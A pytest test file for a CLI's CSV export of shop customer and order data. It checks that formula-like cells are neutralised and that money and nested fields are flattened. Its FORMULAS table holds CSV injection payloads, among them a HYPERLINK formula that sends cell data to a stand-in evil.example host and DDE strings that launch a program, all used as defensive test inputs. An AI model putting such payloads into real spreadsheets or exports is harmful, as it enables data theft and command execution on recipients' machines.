"""``winback export --format csv`` on a real SQLite store: formula-safe, spreadsheet-shaped cells."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from winback.cli.main import cli
from winback.connectors.base import Page, Resource
from winback.model import Address, Customer, LineItem, Money, Order, Store
from winback.sync import open_store, store_key

TOKEN = "shpat_export_csv_secret_24680"
SHOP = "acme.myshopify.com"
KEY = store_key("shopify", SHOP)
T0 = datetime.fromisoformat("2026-01-01T12:00:00+00:00")


@pytest.fixture(autouse=True)
def _token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WB_EXPORT_TOKEN", TOKEN)


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "acme.toml"
    path.write_text(
        f'[client]\nname = "Acme"\n\n[store]\nplatform = "shopify"\nshop = "{SHOP}"\n'
        'access_token = "${WB_EXPORT_TOKEN}"\n\n[database]\nurl = "clients.db"\n',
        encoding="utf-8",
    )
    with open_store(str(tmp_path / "clients.db")) as store:
        store.upsert_store(Store(platform="shopify", store_id=SHOP, name="Acme", currency="EUR"))
    return path


def _eur(amount: str) -> Money:
    return Money(amount=Decimal(amount), currency="EUR")


def _customer(cid: str, **kw) -> Customer:
    return Customer(platform="shopify", store_id=SHOP, id=cid, email=f"{cid}@example.com", updated_at=T0, **kw)


def _commit(config: Path, resource: Resource, *records) -> None:
    with open_store(str(config.parent / "clients.db")) as store:
        store.commit_page(KEY, resource, Page(records=list(records)), None)


def _export(config: Path, resource: str, *extra: str) -> tuple[str, list[dict[str, str]]]:
    out = config.parent / f"{resource}.csv"
    result = CliRunner().invoke(cli, ["export", resource, "--config", str(config), "--format", "csv", "-o", str(out), *extra])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as stream:
        raw = stream.read()
        stream.seek(0)
        table = list(csv.reader(stream))
    assert all(len(line) == len(table[0]) for line in table)
    return raw, [dict(zip(table[0], line, strict=True)) for line in table[1:]]


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "line_feed": "\n=1+1",
    "full_width_equals": "＝1+1",
}


@pytest.mark.parametrize("case", sorted(FORMULAS))
def test_formula_like_text_is_prefixed_and_quoted(config: Path, case: str) -> None:
    name = FORMULAS[case]
    _commit(config, Resource.CUSTOMERS, _customer("c1", first_name=name, tags=(name, "vip")))

    raw, [row] = _export(config, "customers")

    assert row["first_name"] == "'" + name
    assert row["tags"] == f"'{name}, vip"
    assert f'"\'{name[:1]}' in raw


def test_plain_text_and_our_negative_amounts_stay_as_they_are(config: Path) -> None:
    _commit(config, Resource.CUSTOMERS, _customer("c1", first_name="Ann-Marie", amount_spent=_eur("-5.00")))

    raw, [row] = _export(config, "customers")

    assert row["first_name"] == "Ann-Marie"
    assert row["amount_spent_amount"] == "-5.00" and row["amount_spent_currency"] == "EUR"
    assert ',-5.00,"EUR",' in raw


def test_money_and_nested_records_become_readable_columns(config: Path) -> None:
    _commit(
        config,
        Resource.CUSTOMERS,
        _customer("c1", orders_count=1, amount_spent=_eur("19.99"), default_address=Address(city="Köln", country_code="DE")),
    )
    lines = (
        LineItem(id="l1", sku="MUG-1", title="Mug", quantity=2, current_quantity=2, unit_price=_eur("5.00")),
        LineItem(id="l2", title="Cap", quantity=1, current_quantity=0, unit_price=_eur("9.99")),
    )
    order = Order(
        platform="shopify", store_id=SHOP, id="o1", name="#1001", customer_id="c1", created_at=T0, updated_at=T0,
        total=_eur("19.99"), refunded=_eur("9.99"), line_items=lines, billing_address=Address(country_code="DE"),
    )
    _commit(config, Resource.ORDERS, order)

    raw_orders, [o] = _export(config, "orders", "--with-derived")
    raw_customers, [c] = _export(config, "customers", "--with-derived")

    assert (o["total_amount"], o["total_currency"]) == ("19.99", "EUR")
    assert (o["refunded_amount"], o["current_total_amount"]) == ("9.99", "")
    assert (o["net_total_amount"], o["net_total_currency"]) == ("10.00", "EUR")
    assert "total" not in o and "billing_address" not in o
    assert o["billing_address_country_code"] == "DE"
    assert o["line_items"] == "2 x Mug [MUG-1] @ 5.00 EUR; 1 x Cap @ 9.99 EUR (0 after refunds)"
    assert datetime.fromisoformat(o["created_at"]) == T0 and o["created_at"].startswith("2026-01-01T12:00:00")
    assert o["test"] == "false" and o["financial_status"] == "unknown"
    assert (c["amount_spent_amount"], c["real_amount_spent_amount"], c["real_amount_spent_currency"]) == ("19.99", "10.00", "EUR")
    assert (c["consent_state"], c["default_address_city"]) == ("unknown", "Köln")
    assert c["orders_count"] == "1"
    for raw in (raw_orders, raw_customers):
        assert "{" not in raw and TOKEN not in raw

    jsonl = CliRunner().invoke(cli, ["export", "orders", "--config", str(config)])
    assert jsonl.exit_code == 0, jsonl.output
    total = json.loads(jsonl.stdout)["total"]
    assert Decimal(total["amount"]) == Decimal("19.99") and total["currency"] == "EUR"
    assert TOKEN not in jsonl.stdout
